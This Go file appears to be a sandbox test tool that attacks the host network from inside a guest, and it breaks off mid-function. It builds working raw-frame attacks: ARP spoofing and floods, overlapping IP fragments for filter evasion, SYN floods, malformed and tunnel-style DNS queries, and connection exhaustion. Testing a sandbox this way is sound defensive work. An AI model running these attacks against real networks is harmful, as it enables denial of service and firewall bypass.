// Command rawguest runs as root inside a test sandbox and attacks the
// host through the sandbox's network device with frames it builds by
// hand on an AF_PACKET socket: forged sources, spoofed ARP, IP
// fragments, IPv6, stray UDP and ICMP, malformed DNS and floods. The
// sandbox network's hostile-guest test copies it into the guest and reads
// what it prints.
//
//	rawguest syn [-src ADDR] HOST:PORT...     one SYN to each
//	rawguest arp [-flood N]                   spoofed ARP, then who-has the gateway
//	rawguest frag -allowed PORT -denied PORT ADDR
//	rawguest udp HOST:PORT...                 a DNS query to each, as raw UDP
//	rawguest icmp [-src ADDR] [-type T] ADDR...
//	rawguest ipv6                             ICMPv6, NDP, TCP and UDP over IPv6
//	rawguest dnstcp                           hostile queries over TCP to the gateway
//	rawguest dnsburst -n N NAME               N queries over UDP, as fast as it can
//	rawguest hide -n N HOST:PORT              a SYN to HOST:PORT amid 2N stray UDP datagrams
//	rawguest synflood -n N ADDR:PORT          N SYNs from random ports, the guest's own stack silenced
//	rawguest hold -n N -for D HOST:PORT       N connections at once, held for D
//
// Each verb prints "sent ..." lines for what it sent and a "recv ..." line
// for every frame the host sent back while it listened (listen, 2 s by
// default): "recv tcp SRC:PORT > DST:PORT flags=SA", "recv icmp SRC > DST
// type=0", "recv arp reply ADDR is-at MAC", "recv ipv6 ...". Its exit code
// is 0 whenever it could try.
package main

import (
	"encoding/binary"
	"errors"
	"flag"
	"fmt"
	"math/rand/v2"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/sys/unix"
)

const ifname = "eth0"

var (
	guestAddr   = netip.MustParseAddr("10.83.0.2")
	gatewayAddr = netip.MustParseAddr("10.83.0.1")
)

func main() {
	if len(os.Args) < 2 {
		fatal("usage: rawguest VERB ...")
	}
	verb, args := os.Args[1], os.Args[2:]
	fs := flag.NewFlagSet(verb, flag.ExitOnError)
	src := fs.String("src", guestAddr.String(), "source address")
	listen := fs.Duration("listen", 2*time.Second, "how long to listen for replies")
	flood := fs.Int("flood", 0, "gratuitous ARP frames to send")
	allowed := fs.Int("allowed", 443, "the allowed port")
	denied := fs.Int("denied", 22, "a port that is not allowed")
	icmpType := fs.Int("type", 8, "ICMP type")
	count := fs.Int("n", 1, "how many")
	hold := fs.Duration("for", 2*time.Second, "how long to hold connections")
	fs.Parse(args)

	switch verb {
	case "dnstcp":
		dnsTCP()
		return
	case "dnsburst":
		dnsBurst(*count, fs.Arg(0))
		return
	case "hold":
		holdConns(*count, *hold, fs.Arg(0))
		return
	}

	l, err := openLink(ifname)
	if err != nil {
		fatal(err.Error())
	}
	defer unix.Close(l.fd)
	srcAddr := netip.MustParseAddr(*src)
	switch verb {
	case "syn":
		for _, hp := range fs.Args() {
			dst := resolve(hp)
			sport := uint16(20000 + rand.IntN(10000))
			l.send(l.ipv4(srcAddr, dst.Addr(), protoTCP, 0, false, 0, tcpSegment(srcAddr, dst.Addr(), sport, dst.Port(), flagSYN)))
			fmt.Printf("sent syn %s:%d > %s\n", srcAddr, sport, dst)
		}
	case "arp":
		arpAttack(l, *flood)
	case "frag":
		fragments(l, resolve(fs.Arg(0)+":0").Addr(), uint16(*allowed), uint16(*denied))
	case "udp":
		for _, hp := range fs.Args() {
			dst := resolve(hp)
			sport := uint16(20000 + rand.IntN(10000))
			l.send(l.ipv4(srcAddr, dst.Addr(), protoUDP, 0, false, 0, udpDatagram(srcAddr, dst.Addr(), sport, dst.Port(), dnsQuery(0x4242, "example.com", 1))))
			fmt.Printf("sent udp %s:%d > %s\n", srcAddr, sport, dst)
		}
	case "icmp":
		for i, a := range fs.Args() {
			dst := resolve(a + ":0").Addr()
			l.send(l.ipv4(srcAddr, dst, protoICMP, 0, false, 0, icmpMessage(byte(*icmpType), uint16(0x5b00+i))))
			fmt.Printf("sent icmp %s > %s type=%d\n", srcAddr, dst, *icmpType)
		}
	case "ipv6":
		ipv6Attack(l)
	case "hide":
		hide(l, *count, resolve(fs.Arg(0)))
	case "synflood":
		synFlood(l, *count, resolve(fs.Arg(0)))
		return // it listened while it sent
	default:
		fatal("unknown verb " + verb)
	}
	l.listen(*listen, nil)
}

func fatal(msg string) {
	fmt.Fprintln(os.Stderr, "rawguest:", msg)
	os.Exit(2)
}

// resolve turns HOST:PORT into an address, asking the sandbox's DNS for
// a name.
func resolve(hp string) netip.AddrPort {
	host, port, err := net.SplitHostPort(hp)
	if err != nil {
		fatal(err.Error())
	}
	p, err := strconv.ParseUint(port, 10, 16)
	if err != nil {
		fatal(err.Error())
	}
	if a, err := netip.ParseAddr(host); err == nil {
		return netip.AddrPortFrom(a, uint16(p))
	}
	addrs, err := net.LookupHost(host)
	if err != nil || len(addrs) == 0 {
		fatal(fmt.Sprintf("resolving %s: %v", host, err))
	}
	return netip.AddrPortFrom(netip.MustParseAddr(addrs[0]), uint16(p))
}

// link is a raw socket on the interface, with what frames need.
type link struct {
	fd     int
	ifx    int
	mac    net.HardwareAddr
	gwMAC  net.HardwareAddr
	nextID atomic.Uint32
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

func openLink(name string) (*link, error) {
	ifc, err := net.InterfaceByName(name)
	if err != nil {
		return nil, err
	}
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, int(htons(unix.ETH_P_ALL)))
	if err != nil {
		return nil, fmt.Errorf("AF_PACKET socket: %w", err)
	}
	if err := unix.Bind(fd, &unix.SockaddrLinklayer{Protocol: htons(unix.ETH_P_ALL), Ifindex: ifc.Index}); err != nil {
		unix.Close(fd)
		return nil, fmt.Errorf("binding to %s: %w", name, err)
	}
	tv := unix.NsecToTimeval(int64(50 * time.Millisecond))
	if err := unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tv); err != nil {
		unix.Close(fd)
		return nil, err
	}
	l := &link{fd: fd, ifx: ifc.Index, mac: ifc.HardwareAddr}
	l.nextID.Store(rand.Uint32())
	// The gateway's Ethernet address, asked the honest way.
	l.send(arpFrame(l.mac, bcastMAC, arpRequest, l.mac, guestAddr, nil, gatewayAddr))
	deadline := time.Now().Add(3 * time.Second)
	buf := make([]byte, 65536)
	for l.gwMAC == nil && time.Now().Before(deadline) {
		f, ok := l.recv(buf)
		if ok && len(f) >= 42 && binary.BigEndian.Uint16(f[12:]) == etherARP && binary.BigEndian.Uint16(f[20:]) == arpReply &&
			netip.AddrFrom4([4]byte(f[28:32])) == gatewayAddr {
			l.gwMAC = append(net.HardwareAddr(nil), f[22:28]...)
		}
	}
	if l.gwMAC == nil {
		unix.Close(fd)
		return nil, errors.New("the gateway did not answer ARP")
	}
	fmt.Printf("gateway is-at %s\n", l.gwMAC)
	return l, nil
}

func (l *link) send(frame []byte) {
	if _, err := unix.Write(l.fd, frame); err != nil {
		fmt.Printf("send error: %v\n", err)
	}
}

// recv reads one frame the interface received (not one it sent); false
// when none came within the socket's timeout.
func (l *link) recv(buf []byte) ([]byte, bool) {
	n, from, err := unix.Recvfrom(l.fd, buf, 0)
	if err != nil || n <= 0 {
		return nil, false
	}
	if ll, ok := from.(*unix.SockaddrLinklayer); ok && ll.Pkttype == unix.PACKET_OUTGOING {
		return nil, false
	}
	return buf[:n], true
}

// listen prints every frame received for d; each, if on is not nil, is
// also given to on.
func (l *link) listen(d time.Duration, on func([]byte)) {
	buf := make([]byte, 65536)
	for end := time.Now().Add(d); time.Now().Before(end); {
		f, ok := l.recv(buf)
		if !ok {
			continue
		}
		fmt.Println("recv " + describe(f))
		if on != nil {
			on(f)
		}
	}
	fmt.Println("done")
}

// Ethernet, ARP and IP numbers.
const (
	etherIPv4 = 0x0800
	etherARP  = 0x0806
	etherIPv6 = 0x86dd

	arpRequest = 1
	arpReply   = 2

	protoICMP   = 1
	protoTCP    = 6
	protoUDP    = 17
	protoICMPv6 = 58

	flagFIN = 0x01
	flagSYN = 0x02
	flagRST = 0x04
	flagPSH = 0x08
	flagACK = 0x10
)

var bcastMAC = net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}

func ether(dst, src net.HardwareAddr, typ uint16, payload []byte) []byte {
	b := make([]byte, 14, 14+len(payload))
	copy(b, dst)
	copy(b[6:], src)
	binary.BigEndian.PutUint16(b[12:], typ)
	return append(b, payload...)
}

// arpFrame builds an ARP message in an Ethernet frame from the guest's
// MAC to dst; a nil target MAC is all zeros.
func arpFrame(src, dst net.HardwareAddr, op uint16, sha net.HardwareAddr, spa netip.Addr, tha net.HardwareAddr, tpa netip.Addr) []byte {
	a := make([]byte, 28)
	binary.BigEndian.PutUint16(a[0:], 1)
	binary.BigEndian.PutUint16(a[2:], etherIPv4)
	a[4], a[5] = 6, 4
	binary.BigEndian.PutUint16(a[6:], op)
	copy(a[8:], sha)
	s4, t4 := spa.As4(), tpa.As4()
	copy(a[14:], s4[:])
	copy(a[18:], tha)
	copy(a[24:], t4[:])
	return ether(dst, src, etherARP, a)
}

func checksum(b []byte, initial uint32) uint16 {
	sum := initial
	for len(b) >= 2 {
		sum += uint32(binary.BigEndian.Uint16(b))
		b = b[2:]
	}
	if len(b) == 1 {
		sum += uint32(b[0]) << 8
	}
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}

func pseudo4(src, dst netip.Addr, proto byte, length int) uint32 {
	s, d := src.As4(), dst.As4()
	var sum uint32
	for i := 0; i < 4; i += 2 {
		sum += uint32(binary.BigEndian.Uint16(s[i:])) + uint32(binary.BigEndian.Uint16(d[i:]))
	}
	return sum + uint32(proto) + uint32(length)
}

// ipv4 builds an IPv4 packet to the gateway's MAC; off is the fragment
// offset in 8-byte units and mf the more-fragments flag; id 0 picks one.
func (l *link) ipv4(src, dst netip.Addr, proto byte, id uint16, mf bool, off uint16, payload []byte) []byte {
	if id == 0 {
		id = uint16(l.nextID.Add(1))
	}
	h := make([]byte, 20, 20+len(payload))
	h[0] = 0x45
	binary.BigEndian.PutUint16(h[2:], uint16(20+len(payload)))
	binary.BigEndian.PutUint16(h[4:], id)
	fo := off & 0x1fff
	if mf {
		fo |= 0x2000
	}
	binary.BigEndian.PutUint16(h[6:], fo)
	h[8] = 64
	h[9] = proto
	s, d := src.As4(), dst.As4()
	copy(h[12:], s[:])
	copy(h[16:], d[:])
	binary.BigEndian.PutUint16(h[10:], checksum(h, 0))
	return ether(l.gwMAC, l.mac, etherIPv4, append(h, payload...))
}

// tcpSegment builds a TCP header without options or payload, checksum
// filled in for src and dst.
func tcpSegment(src, dst netip.Addr, sport, dport uint16, flags byte) []byte {
	t := make([]byte, 20)
	binary.BigEndian.PutUint16(t[0:], sport)
	binary.BigEndian.PutUint16(t[2:], dport)
	binary.BigEndian.PutUint32(t[4:], rand.Uint32())
	t[12] = 5 << 4
	t[13] = flags
	binary.BigEndian.PutUint16(t[14:], 65535)
	binary.BigEndian.PutUint16(t[16:], checksum(t, pseudo4(src, dst, protoTCP, len(t))))
	return t
}

func udpDatagram(src, dst netip.Addr, sport, dport uint16, payload []byte) []byte {
	u := make([]byte, 8, 8+len(payload))
	binary.BigEndian.PutUint16(u[0:], sport)
	binary.BigEndian.PutUint16(u[2:], dport)
	binary.BigEndian.PutUint16(u[4:], uint16(8+len(payload)))
	u = append(u, payload...)
	binary.BigEndian.PutUint16(u[6:], checksum(u, pseudo4(src, dst, protoUDP, len(u))))
	return u
}

func icmpMessage(typ byte, id uint16) []byte {
	m := make([]byte, 8, 8+32)
	m[0] = typ
	binary.BigEndian.PutUint16(m[4:], id)
	binary.BigEndian.PutUint16(m[6:], 1)
	m = append(m, []byte("sbx hostile guest ICMP payload!!")...)
	binary.BigEndian.PutUint16(m[2:], checksum(m, 0))
	return m
}

// dnsQuery builds a query with one question, recursion desired.
func dnsQuery(id uint16, name string, qtype uint16) []byte {
	q := make([]byte, 12)
	binary.BigEndian.PutUint16(q[0:], id)
	q[2] = 1
	binary.BigEndian.PutUint16(q[4:], 1)
	for _, label := range strings.Split(strings.TrimSuffix(name, "."), ".") {
		q = append(q, byte(len(label)))
		q = append(q, label...)
	}
	q = append(q, 0)
	return binary.BigEndian.AppendUint16(binary.BigEndian.AppendUint16(q, qtype), 1)
}

// describe says in one line what a received frame is.
func describe(f []byte) string {
	if len(f) < 14 {
		return fmt.Sprintf("runt len=%d", len(f))
	}
	switch typ := binary.BigEndian.Uint16(f[12:]); typ {
	case etherARP:
		a := f[14:]
		if len(a) < 28 {
			return "arp short"
		}
		op := "request"
		if binary.BigEndian.Uint16(a[6:]) == arpReply {
			op = "reply"
		}
		spa, tpa := netip.AddrFrom4([4]byte(a[14:18])), netip.AddrFrom4([4]byte(a[24:28]))
		if op == "reply" {
			return fmt.Sprintf("arp reply %s is-at %s to %s", spa, net.HardwareAddr(a[8:14]), tpa)
		}
		return fmt.Sprintf("arp request who-has %s tell %s", tpa, spa)
	case etherIPv4:
		ip := f[14:]
		if len(ip) < 20 {
			return "ipv4 short"
		}
		hl := int(ip[0]&0x0f) * 4
		src, dst := netip.AddrFrom4([4]byte(ip[12:16])), netip.AddrFrom4([4]byte(ip[16:20]))
		if len(ip) < hl {
			return "ipv4 short"
		}
		if fo := binary.BigEndian.Uint16(ip[6:]); fo&0x3fff != 0 {
			return fmt.Sprintf("ipv4 fragment proto=%d %s > %s", ip[9], src, dst)
		}
		p := ip[hl:]
		switch ip[9] {
		case protoTCP:
			if len(p) < 20 {
				return "tcp short"
			}
			return fmt.Sprintf("tcp %s:%d > %s:%d flags=%s", src, binary.BigEndian.Uint16(p), dst, binary.BigEndian.Uint16(p[2:]), tcpFlags(p[13]))
		case protoUDP:
			if len(p) < 8 {
				return "udp short"
			}
			return fmt.Sprintf("udp %s:%d > %s:%d len=%d", src, binary.BigEndian.Uint16(p), dst, binary.BigEndian.Uint16(p[2:]), len(p)-8)
		case protoICMP:
			if len(p) < 2 {
				return "icmp short"
			}
			return fmt.Sprintf("icmp %s > %s type=%d code=%d", src, dst, p[0], p[1])
		default:
			return fmt.Sprintf("ipv4 proto=%d %s > %s", ip[9], src, dst)
		}
	case etherIPv6:
		ip := f[14:]
		if len(ip) < 40 {
			return "ipv6 short"
		}
		return fmt.Sprintf("ipv6 next=%d %s > %s", ip[6], netip.AddrFrom16([16]byte(ip[8:24])), netip.AddrFrom16([16]byte(ip[24:40])))
	default:
		return fmt.Sprintf("ethertype=%#04x", typ)
	}
}

func tcpFlags(b byte) string {
	s := ""
	for _, f := range []struct {
		bit byte
		c   string
	}{{flagSYN, "S"}, {flagACK, "A"}, {flagRST, "R"}, {flagFIN, "F"}, {flagPSH, "P"}} {
		if b&f.bit != 0 {
			s += f.c
		}
	}
	return s
}

// arpAttack claims the gateway's address and another host's, answers
// requests nobody sent, floods gratuitous ARP for random addresses of
// the subnet, and then asks who has the gateway: the answer must still
// be the gateway's own MAC.
func arpAttack(l *link, flood int) {
	fake := net.HardwareAddr{0x02, 0xde, 0xad, 0xbe, 0xef, 0x01}
	other := netip.MustParseAddr("10.83.0.5")
	// Replies claiming the gateway and another host, to the gateway.
	l.send(arpFrame(l.mac, l.gwMAC, arpReply, fake, gatewayAddr, l.gwMAC, gatewayAddr))
	l.send(arpFrame(l.mac, l.gwMAC, arpReply, l.mac, gatewayAddr, l.gwMAC, gatewayAddr))
	l.send(arpFrame(l.mac, l.gwMAC, arpReply, fake, other, l.gwMAC, gatewayAddr))
	fmt.Println("sent arp replies claiming", gatewayAddr, "and", other)
	// Gratuitous ARP, broadcast, for random addresses with random MACs;
	// the gateway's address among them. Never the guest's own address:
	// announcing it elsewhere would only cut the guest off from itself.
	for i := range flood {
		a := netip.AddrFrom4([4]byte{10, 83, 0, byte(3 + rand.IntN(250))})
		if i%10 == 0 {
			a = gatewayAddr
		}
		if i%7 == 0 {
			a = netip.AddrFrom4([4]byte{byte(1 + rand.IntN(223)), byte(rand.IntN(256)), byte(rand.IntN(256)), byte(1 + rand.IntN(254))})
		}
		mac := net.HardwareAddr{0x02, byte(rand.IntN(256)), byte(rand.IntN(256)), byte(rand.IntN(256)), byte(rand.IntN(256)), byte(rand.IntN(256))}
		op := uint16(arpRequest)
		if i%2 == 1 {
			op = arpReply
		}
		l.send(arpFrame(mac, bcastMAC, op, mac, a, nil, a))
	}
	fmt.Printf("sent %d gratuitous arp\n", flood)
	// Who has the gateway, and who has the host claimed above.
	l.send(arpFrame(l.mac, bcastMAC, arpRequest, l.mac, guestAddr, nil, gatewayAddr))
	l.send(arpFrame(l.mac, bcastMAC, arpRequest, l.mac, guestAddr, nil, other))
	fmt.Println("sent arp requests for", gatewayAddr, "and", other)
}

// fragments sends SYNs to dst cut into IP fragments, each series from a
// port of its own (printed): a tiny first fragment that holds only the
// ports, the flags in the second; first fragments that name the denied
// port overwritten by an overlapping one naming the allowed port, and the
// other way round; and a plain two-piece SYN to the allowed port.
func fragments(l *link, dst netip.Addr, allowed, denied uint16) {
	series := func(what string, sport uint16, frags func(seg func(dport uint16) []byte, id uint16)) {
		id := uint16(l.nextID.Add(1))
		frags(func(dport uint16) []byte {
			t := tcpSegment(guestAddr, dst, sport, dport, flagSYN)
			// A fixed sequence number, so that overlapping pieces agree
			// on everything but the port (and the checksum).
			binary.BigEndian.PutUint32(t[4:], 0x5b5b0000)
			binary.BigEndian.PutUint16(t[16:], 0)
			binary.BigEndian.PutUint16(t[16:], checksum(t, pseudo4(guestAddr, dst, protoTCP, len(t))))
			return t
		}, id)
		fmt.Printf("sent frag %s sport=%d\n", what, sport)
	}
	frag := func(id uint16, mf bool, off uint16, b []byte) {
		l.send(l.ipv4(guestAddr, dst, protoTCP, id, mf, off, b))
	}
	series("tiny-first", 31001, func(seg func(uint16) []byte, id uint16) {
		t := seg(denied)
		frag(id, true, 0, t[:8])
		frag(id, false, 1, t[8:])
	})
	series("tiny-first-allowed", 31002, func(seg func(uint16) []byte, id uint16) {
		t := seg(allowed)
		frag(id, true, 0, t[:8])
		frag(id, false, 1, t[8:])
	})
	series("overlap-denied-then-allowed", 31003, func(seg func(uint16) []byte, id uint16) {
		d, a := seg(denied), seg(allowed)
		frag(id, true, 0, d[:16])
		frag(id, true, 0, a[:16])
		frag(id, false, 2, a[16:])
	})
	series("overlap-allowed-then-denied", 31004, func(seg func(uint16) []byte, id uint16) {
		d, a := seg(denied), seg(allowed)
		frag(id, true, 0, a[:16])
		frag(id, true, 0, d[:16])
		frag(id, false, 2, d[16:])
	})
	series("last-first", 31005, func(seg func(uint16) []byte, id uint16) {
		t := seg(allowed)
		frag(id, false, 1, t[8:])
		frag(id, true, 0, t[:8])
	})
}

// ipv6Attack sends IPv6 the network has no route for: an echo request to
// all nodes and to a router's likely address, a neighbour solicitation
// for it, a SYN and a DNS query to outside addresses.
func ipv6Attack(l *link) {
	ll := netip.AddrFrom16([16]byte{0xfe, 0x80, 8: 0x00, 0x83, 0x00, 0xff, 0xfe, 0x00, 0x00, 0x02})
	router := netip.MustParseAddr("fe80::1")
	allNodes := netip.MustParseAddr("ff02::1")
	outside := netip.MustParseAddr("2606:4700:4700::1111")
	send := func(dstMAC net.HardwareAddr, src, dst netip.Addr, next byte, payload []byte) {
		h := make([]byte, 40, 40+len(payload))
		h[0] = 0x60
		binary.BigEndian.PutUint16(h[4:], uint16(len(payload)))
		h[6] = next
		h[7] = 255
		s, d := src.As16(), dst.As16()
		copy(h[8:], s[:])
		copy(h[24:], d[:])
		l.send(ether(dstMAC, l.mac, etherIPv6, append(h, payload...)))
		fmt.Printf("sent ipv6 next=%d %s > %s\n", next, src, dst)
	}
	pseudo6 := func(src, dst netip.Addr, next byte, length int) uint32 {
		s, d := src.As16(), dst.As16()
		var sum uint32
		for i := 0; i < 16; i += 2 {
			sum += uint32(binary.BigEndian.Uint16(s[i:])) + uint32(binary.BigEndian.Uint16(d[i:]))
		}
		return sum + uint32(length) + uint32(next)
	}
	icmp6 := func(src, dst netip.Addr, typ byte, body []byte) []byte {
		m := append([]byte{typ, 0, 0, 0}, body...)
		binary.BigEndian.PutUint16(m[2:], checksum(m, pseudo6(src, dst, protoICMPv6, len(m))))
		return m
	}
	allNodesMAC := net.HardwareAddr{0x33, 0x33, 0, 0, 0, 1}
	send(allNodesMAC, ll, allNodes, protoICMPv6, icmp6(ll, allNodes, 128, []byte{0, 1, 0, 1, 's', 'b', 'x', '!'}))
	send(l.gwMAC, ll, router, protoICMPv6, icmp6(ll, router, 128, []byte{0, 1, 0, 2, 's', 'b', 'x', '!'}))
	// Neighbour solicitation for fe80::1, to its solicited-node group.
	sn := netip.MustParseAddr("ff02::1:ff00:1")
	r16 := router.As16()
	ns := append([]byte{0, 0, 0, 0}, r16[:]...)
	ns = append(ns, 1, 1)
	ns = append(ns, l.mac...)
	send(net.HardwareAddr{0x33, 0x33, 0xff, 0, 0, 1}, ll, sn, protoICMPv6, icmp6(ll, sn, 135, ns))
	// Router solicitation.
	allRouters := netip.MustParseAddr("ff02::2")
	send(net.HardwareAddr{0x33, 0x33, 0, 0, 0, 2}, ll, allRouters, protoICMPv6, icmp6(ll, allRouters, 133, []byte{0, 0, 0, 0}))
	// A SYN and a DNS query to an outside address, through the gateway.
	global := netip.MustParseAddr("2001:db8::2")
	t := make([]byte, 20)
	binary.BigEndian.PutUint16(t[0:], 32001)
	binary.BigEndian.PutUint16(t[2:], 443)
	t[12], t[13] = 5<<4, flagSYN
	binary.BigEndian.PutUint16(t[14:], 65535)
	binary.BigEndian.PutUint16(t[16:], checksum(t, pseudo6(global, outside, protoTCP, len(t))))
	send(l.gwMAC, global, outside, protoTCP, t)
	q := dnsQuery(0x6666, "example.com", 28)
	u := make([]byte, 8, 8+len(q))
	binary.BigEndian.PutUint16(u[0:], 32002)
	binary.BigEndian.PutUint16(u[2:], 53)
	binary.BigEndian.PutUint16(u[4:], uint16(8+len(q)))
	u = append(u, q...)
	binary.BigEndian.PutUint16(u[6:], checksum(u, pseudo6(global, outside, protoUDP, len(u))))
	send(l.gwMAC, global, outside, protoUDP, u)
}

// dnsTCP asks the gateway's DNS over TCP, one connection a query, what a
// tunnel or a parser attack would: a TXT query, names too long in all and
// in one label, a compression pointer that points at itself and one loop
// of two. It prints the answer's rcode and answer count, or what became
// of the connection.
func dnsTCP() {
	long := strings.Repeat(strings.Repeat("a", 63)+".", 4) + "test" // 260 characters
	label64 := strings.Repeat("b", 64) + ".api.test"
	selfPtr := dnsQuery(0x5001, "api.test", 1)[:12]
	selfPtr = append(selfPtr, 0xc0, 12, 0, 1, 0, 1) // a pointer to itself
	loop := dnsQuery(0x5002, "api.test", 1)[:12]
	loop = append(loop, 1, 'a', 0xc0, 16, 1, 'b', 0xc0, 12, 0, 1, 0, 1) // "a" → 16: "b" → 12: "a" ...
	for _, c := range []struct {
		what string
		msg  []byte
	}{
		{"txt", dnsQuery(0x4001, "api.test", 16)},
		{"txt-tunnel", dnsQuery(0x4002, "c2VjcmV0LXRoYXQtbXVzdC1ub3QtbGVhdmU.denied.test", 16)},
		{"long-name", rawName(0x4003, long)},
		{"long-label", rawName(0x4004, label64)},
		{"pointer-self", selfPtr},
		{"pointer-loop", loop},
		{"a", dnsQuery(0x4005, "api.test", 1)},
	} {
		fmt.Printf("dnstcp %s %s\n", c.what, askTCP(c.msg))
	}
}

// rawName is a query whose name is written label by label as given, with
// no check of any length.
func rawName(id uint16, name string) []byte {
	q := make([]byte, 12)
	binary.BigEndian.PutUint16(q[0:], id)
	q[2] = 1
	binary.BigEndian.PutUint16(q[4:], 1)
	for label := range strings.SplitSeq(name, ".") {
		q = append(q, byte(len(label)))
		q = append(q, label...)
	}
	q = append(q, 0, 0, 1, 0, 1)
	return q
}

func askTCP(msg []byte) string {
	c, err := net.DialTimeout("tcp", net.JoinHostPort(gatewayAddr.String(), "53"), 5*time.Second)
	if err != nil {
		return "error " + err.Error()
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(5 * time.Second))
	if _, err := c.Write(binary.BigEndian.AppendUint16(nil, uint16(len(msg)))); err != nil {
		return "error " + err.Error()
	}
	if _, err := c.Write(msg); err != nil {
		return "error " + err.Error()
	}
	var hdr [2]byte
	if _, err := ioReadFull(c, hdr[:]); err != nil {
		return "closed " + err.Error()
	}
	resp := make([]byte, binary.BigEndian.Uint16(hdr[:]))
	if _, err := ioReadFull(c, resp); err != nil || len(resp) < 12 {
		return fmt.Sprintf("short %v", err)
	}
	return fmt.Sprintf("rcode=%d answers=%d", resp[3]&0x0f, binary.BigEndian.Uint16(resp[6:]))
}

func ioReadFull(c net.Conn, b []byte) (int, error) {
	n := 0
	for n < len(b) {
		k, err := c.Read(b[n:])
		n += k
		if err != nil {
			return n, err
		}
	}
	return n, nil
}

// dnsBurst sends n A queries for name over UDP to the gateway as fast as
// it can, in runs of 50 a few milliseconds apart (so that what bounds
// the answers is the host's rate, not its socket's buffer), then counts
// the answers that come within 2 s of the last.
func dnsBurst(n int, name string) {
	c, err := net.Dial("udp", net.JoinHostPort(gatewayAddr.String(), "53"))
	if err != nil {
		fatal(err.Error())
	}
	defer c.Close()
	var answered atomic.Int64
	done := make(chan struct{})
	go func() {
		defer close(done)
		buf := make([]byte, 1500)
		for {
			c.SetReadDeadline(time.Now().Add(2 * time.Second))
			if _, err := c.Read(buf); err != nil {
				var ne net.Error
				if errors.As(err, &ne) && ne.Timeout() {
					return
				}
				continue // an ICMP error read back, say
			}
			answered.Add(1)
		}
	}()
	start := time.Now()
	sent := 0
	for i := range n {
		if _, err := c.Write(dnsQuery(uint16(i), name, 1)); err == nil {
			sent++
		}
		if i%50 == 49 {
			time.Sleep(5 * time.Millisecond)
		}
	}
	took := time.Since(start)
	<-done
	fmt.Printf("dnsburst sent=%d answered=%d seconds=%.3f\n", sent, answered.Load(), took.Seconds())
}

// hide sends a SYN to probe in the middle of 2n UDP datagrams to an
// outside resolver, each of which the host refuses and would report: a
// guest that wants its probe to go unseen drowns it in refusals.
func hide(l *link, n int, probe netip.AddrPort) {
	noise := netip.MustParseAddr("8.8.8.8")
	q := dnsQuery(0x4848, "example.com", 1)
	for i := range 2*n + 1 {
		if i == n {
			l.send(l.ipv4(guestAddr, probe.Addr(), protoTCP, 0, false, 0, tcpSegment(guestAddr, probe.Addr(), 33333, probe.Port(), flagSYN)))
			fmt.Printf("sent probe syn %s:33333 > %s\n", guestAddr, probe)
			continue
		}
		sport := uint16(20000 + i%10000)
		l.send(l.ipv4(guestAddr, noise, protoUDP, 0, false, 0, udpDatagram(guestAddr, noise, sport, 53, q)))
	}
	fmt.Printf("sent %d udp to %s:53\n", 2*n, noise)
}

// synFlood sends n SYNs to dst from random ports of the guest's address
// as fast as it can, with the guest's own stack silenced (its address
// taken off the interface, so that it never answers a SYN-ACK with a
// reset and every handshake stays half-open): the host's ARP questions
// for the guest are answered here. The address and the default route are
// put back at the end.
func synFlood(l *link, n int, dst netip.AddrPort) {
	if out, err := exec.Command("ip", "addr", "del", "10.83.0.2/24", "dev", ifname).CombinedOutput(); err != nil {
		fatal(fmt.Sprintf("ip addr del: %v %s", err, out))
	}
	defer func() {
		for _, args := range [][]string{{"addr", "add", "10.83.0.2/24", "dev", ifname}, {"route", "add", "default", "via", gatewayAddr.String()}} {
			if out, err := exec.Command("ip", args...).CombinedOutput(); err != nil {
				fmt.Printf("ip %s: %v %s\n", strings.Join(args, " "), err, out)
			}
		}
	}()
	var mu sync.Mutex
	synacks := map[uint16]bool{}
	stop := make(chan struct{})
	done := make(chan struct{})
	go func() {
		defer close(done)
		buf := make([]byte, 65536)
		for {
			select {
			case <-stop:
				return
			default:
			}
			f, ok := l.recv(buf)
			if !ok || len(f) < 14 {
				continue
			}
			switch binary.BigEndian.Uint16(f[12:]) {
			case etherARP:
				if len(f) >= 42 && binary.BigEndian.Uint16(f[20:]) == arpRequest && netip.AddrFrom4([4]byte(f[38:42])) == guestAddr {
					l.send(arpFrame(l.mac, net.HardwareAddr(f[22:28]), arpReply, l.mac, guestAddr, f[22:28], netip.AddrFrom4([4]byte(f[28:32]))))
				}
			case etherIPv4:
				ip := f[14:]
				if len(ip) >= 40 && ip[9] == protoTCP {
					t := ip[int(ip[0]&0x0f)*4:]
					if len(t) >= 20 && t[13]&(flagSYN|flagACK) == flagSYN|flagACK {
						mu.Lock()
						synacks[binary.BigEndian.Uint16(t[2:])] = true
						mu.Unlock()
					}
				}
			}
		}
	}()
	start := time.Now()
	for range n {
		sport := uint16(1024 + rand.IntN(65536-1024))
		l.send(l.ipv4(guestAddr, dst.Addr(), protoTCP, 0, false, 0, tcpSegment(guestAddr, dst.Addr(), sport, dst.Port(), flagSYN)))
	}
	took := time.Since(start)
	time.Sleep(time.Second)
	close(stop)
	<-done
	mu.Lock()
	fmt.Printf("synflood sent=%d seconds=%.3f synacks=%d\n", n, took.Seconds(), len(synacks))
	mu.Unlock()
}

// holdConns opens n connections to hp at once, holds those that opened
// for d, and prints how many opened, were refused (reset) or failed
// otherwise.
func holdConns(n int, d time.Duration, hp string) {
	var mu sync.Mutex
	var conns []net.Conn
	var refused, failed int
	var errs []string
	var wg sync.WaitGroup
	for range n {
		wg.Go(func() {
			c, err := net.DialTimeout("tcp", hp, 30*time.Second)
			mu.Lock()
			defer mu.Unlock()
			switch {
			case err == nil:
				conns = append(conns, c)
			case errors.Is(err, unix.ECONNREFUSED):
				refused++
			default:
				failed++
				if len(errs) < 3 {
					errs = append(errs, err.Error())
				}
			}
		})
	}
	wg.Wait()
	fmt.Printf("hold connected=%d refused=%d failed=%d %s\n", len(conns), refused, failed, strings.Join(errs, "; "))
	// Those that opened are still open: a byte each way through the
	// upstream proves it.
	alive := 0
	for _, c := range conns {
		c.SetDeadline(time.Now().Add(5 * time.Second))
		if _, err := c.Write([]byte{'x'}); err != nil {
			continue
		}
		b := make([]byte, 1)
		if _, err := c.Read(b); err == nil {
			alive++
		}
	}
